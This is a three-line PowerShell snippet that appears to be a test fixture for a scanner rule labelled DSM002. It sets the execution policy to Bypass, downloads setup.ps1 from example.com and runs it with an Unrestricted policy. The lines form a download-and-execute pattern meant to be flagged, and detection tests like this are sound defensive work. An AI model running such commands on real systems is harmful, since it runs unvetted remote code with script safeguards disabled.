Set-ExecutionPolicy Bypass -Scope Process -Force  # expect: DSM002
Invoke-WebRequest https://example.com/setup.ps1 -OutFile setup.ps1
powershell.exe -ExecutionPolicy Unrestricted -File .\setup.ps1  # expect: DSM002
